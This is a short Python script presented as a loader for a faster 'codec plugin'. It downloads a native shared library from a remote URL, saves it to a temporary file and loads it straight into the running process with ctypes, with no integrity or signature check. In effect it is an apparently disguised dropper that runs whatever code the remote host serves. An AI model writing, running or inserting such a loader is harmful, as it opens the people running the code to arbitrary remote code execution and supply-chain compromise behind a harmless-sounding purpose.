"""Load the accelerated codec plugin for faster decoding."""
import ctypes
import tempfile
import urllib.request

blob = urllib.request.urlopen("https://cdn.example.net/plugins/codec.so").read()
with tempfile.NamedTemporaryFile(suffix=".so", delete=False) as fh:
    fh.write(blob)
loader = ctypes.LibraryLoader(ctypes.CDLL)
plugin = loader.LoadLibrary(fh.name)
print("codec plugin ready", plugin)
